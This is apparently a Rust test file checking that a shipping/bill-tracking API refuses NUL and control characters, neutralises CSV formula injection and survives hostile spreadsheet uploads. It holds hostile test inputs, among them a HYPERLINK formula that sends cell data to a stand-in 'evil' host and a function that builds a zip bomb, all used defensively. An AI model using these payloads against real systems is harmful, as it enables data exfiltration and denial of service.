//! What a hostile file, a NUL byte or a formula does to the server: a clear 4xx naming what was
//! wrong, never a 500 or a dead process; and nothing a client typed leaves in a CSV as a live
//! formula.

use reqwest::multipart::{Form, Part};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::helpers::{TestApp, TestOptions, assert_problem, spawn_app, spawn_app_with};

fn field_named(problem: &Value, field: &str) -> bool {
    problem["details"]["fields"].as_array().is_some_and(|fields| fields.iter().any(|f| f["field"] == field))
}

#[tokio::test]
async fn nul_and_control_characters_are_refused_with_the_field_named() {
    let app = spawn_app().await;
    let token = app.admin_token().await;
    for (path, field) in [
        ("/api/v1/bills?q=a%00b", "q"),
        ("/api/v1/users?q=%00", "q"),
        ("/api/v1/bags?q=x%1b%5b31m", "q"),
        ("/api/v1/events?kind=child_linked&bag=%00", "bag"),
        ("/api/v1/audit?action=%00", "action"),
    ] {
        let problem =
            assert_problem(app.get(path, &token).await, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert!(field_named(&problem, field), "{path}: {problem}");
    }

    let created = app.post("/api/v1/bills", &token, json!({"bill_id": "NUL-1", "capacity": 5})).await;
    assert_eq!(created.status(), StatusCode::CREATED);
    for (field, value) in
        [("destination", "Luck\u{0}now"), ("description", "bell\u{7}"), ("vehicle_number", "UP\u{1b}32")]
    {
        let response =
            app.request(Method::PATCH, "/api/v1/bills/NUL-1", Some(&token), Some(json!({field: value}))).await;
        let problem = assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert!(field_named(&problem, field), "{field}: {problem}");
    }
    let body = json!({"bill_id": "NUL-2", "capacity": 5, "description": "a\u{0}"});
    assert_problem(
        app.post("/api/v1/bills", &token, body).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    let body =
        json!({"username": "nul.user", "password": "Pass-Word-2026!", "role": "biller", "display_name": "N\u{0}"});
    let problem = assert_problem(
        app.post("/api/v1/users", &token, body).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert!(field_named(&problem, "display_name"), "{problem}");
    // Sign-in with a NUL in the name is a wrong sign-in, not a database error.
    assert_problem(app.login("ad\u{0}min", "x").await, StatusCode::UNAUTHORIZED, "unauthorized").await;
    // Identifiers keep SPEC §1: control characters a scanner sends are stripped, not refused.
    let scanned = app.scan_parent(&token, "\u{1d}SB00042\u{0}", Some("lucknow")).await;
    assert!(scanned.status().is_success(), "{}", scanned.status());
}

#[tokio::test]
async fn a_device_id_is_short_printable_and_never_a_formula() {
    let app = spawn_app().await;
    let token = app.admin_token().await;
    for bad in ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "@SUM(A1)", "+1", &"x".repeat(65)] {
        let response = app
            .client
            .post(app.url("/api/v1/scans/parent"))
            .bearer_auth(&token)
            .header("X-Device-Id", bad)
            .json(&json!({"qr": "SB00001", "area": "lucknow"}))
            .send()
            .await
            .unwrap();
        let problem = assert_problem(response, StatusCode::UNPROCESSABLE_ENTITY, "validation_failed").await;
        assert!(field_named(&problem, "X-Device-Id"), "{problem}");
    }
    let response = app
        .client
        .post(app.url("/api/v1/scans/parent"))
        .bearer_auth(&token)
        .header("X-Device-Id", "station-3")
        .json(&json!({"qr": "SB00001", "area": "lucknow"}))
        .send()
        .await
        .unwrap();
    assert!(response.status().is_success());
}

#[tokio::test]
async fn free_text_that_looks_like_a_formula_leaves_in_csv_as_text() {
    let app = spawn_app().await;
    let token = app.admin_token().await;
    let body = json!({"bill_id": "CSV-1", "capacity": 5, "description": "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                      "destination": "@SUM(A1)", "vehicle_number": "-2+3"});
    assert_eq!(app.post("/api/v1/bills", &token, body).await.status(), StatusCode::CREATED);
    let response = app.get("/api/v1/exports/bills.csv", &token).await;
    assert_eq!(response.status(), StatusCode::OK);
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
    assert_eq!(cell("description"), "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")");
    assert_eq!(cell("destination"), "'@SUM(A1)");
    assert_eq!(cell("vehicle_number"), "'-2+3");
    for line in text.lines().skip(1) {
        for cell in line.split(',') {
            assert!(!cell.trim_matches('"').starts_with(['=', '+', '@']), "live formula in {line}");
        }
    }
}

async fn import(app: &TestApp, token: &str, name: &str, bytes: Vec<u8>) -> reqwest::Response {
    let form = Form::new().part("file", Part::bytes(bytes).file_name(name.to_owned()));
    app.client.post(app.url("/api/v1/imports/bags")).bearer_auth(token).multipart(form).send().await.unwrap()
}

fn workbook(cells: &[(u32, u16, &str)]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (row, column, text) in cells {
        sheet.write_string(*row, *column, *text).unwrap();
    }
    book.save_to_buffer().unwrap()
}

/// The workbook with its first sheet's XML edited.
fn rewrite_sheet(book: Vec<u8>, from: &str, to: &str) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(book)).unwrap();
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for index in 0..archive.len() {
        let mut entry = archive.by_index(index).unwrap();
        let name = entry.name().unwrap().into_owned();
        let mut content = Vec::new();
        entry.read_to_end(&mut content).unwrap();
        if name == "xl/worksheets/sheet1.xml" {
            let text = String::from_utf8(content).unwrap();
            assert!(text.contains(from), "{text}");
            content = text.replace(from, to).into_bytes();
        }
        writer.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(&content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A zip whose one part inflates to `inflated` bytes of spaces.
fn zip_bomb(inflated: usize) -> Vec<u8> {
    use std::io::Write;
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    writer.start_file("xl/worksheets/sheet1.xml", options).unwrap();
    let chunk = vec![b' '; 1024 * 1024];
    for _ in 0..inflated / chunk.len() {
        writer.write_all(&chunk).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

#[tokio::test]
async fn hostile_spreadsheets_are_refused_and_the_server_stays_up() {
    // A lower ceiling than the 256 MB default, so the bomb is quick to build in a debug test.
    let app = spawn_app_with(TestOptions {
        configure: |s| s.import_limits.max_uncompressed_bytes = 8 * 1024 * 1024,
        ..Default::default()
    })
    .await;
    let token = app.admin_token().await;

    // One cell at A1 and one at XFD1048576: a dense grid of it would be ~1.7e10 cells.
    let sparse = workbook(&[(0, 0, "parent_qr"), (1_048_575, 16_383, "x")]);
    assert!(sparse.len() < 16 * 1024, "{}", sparse.len());
    let problem = assert_problem(
        import(&app, &token, "far.xlsx", sparse).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert!(problem["message"].as_str().unwrap().contains("rows"), "{problem}");

    // A far column within the row limit is refused by its column.
    let wide = workbook(&[(0, 0, "parent_qr"), (0, 1, "child_qr"), (3, 16_000, "x")]);
    let problem = assert_problem(
        import(&app, &token, "wide.xlsx", wide).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert_eq!(problem["details"]["row"], 4, "{problem}");

    // 32 MB of XML in a 32 KB upload.
    let bomb = zip_bomb(32 * 1024 * 1024);
    assert!(bomb.len() < 256 * 1024, "{}", bomb.len());
    assert_problem(import(&app, &token, "bomb.xlsx", bomb).await, StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large")
        .await;

    // Claims to be a workbook, is not a zip.
    let fake = b"PK\x03\x04 this is not a zip archive at all".to_vec();
    assert_problem(
        import(&app, &token, "fake.xlsx", fake).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;

    // A cell reference the spreadsheet reader chokes on (it panics computing the row).
    let choking = rewrite_sheet(
        workbook(&[(0, 0, "parent_qr"), (0, 1, "child_qr"), (1, 1, "x")]),
        "r=\"B2\"",
        "r=\"B99999999999\"",
    );
    assert_problem(
        import(&app, &token, "choke.xlsx", choking).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;

    // Ten million columns on one CSV line.
    let mut wide_csv = b"parent_qr,child_qr\n".to_vec();
    wide_csv.extend(std::iter::repeat_n(b',', 10_000_000));
    assert_problem(
        import(&app, &token, "wide.csv", wide_csv).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;

    // The server is still up and imports a sane file.
    let fine = workbook(&[(0, 0, "parent_qr"), (0, 1, "child_qr"), (1, 0, "SB00001"), (1, 1, "KID0001")]);
    let response = import(&app, &token, "fine.xlsx", fine).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.json::<Value>().await.unwrap()["accepted"], 1);
}
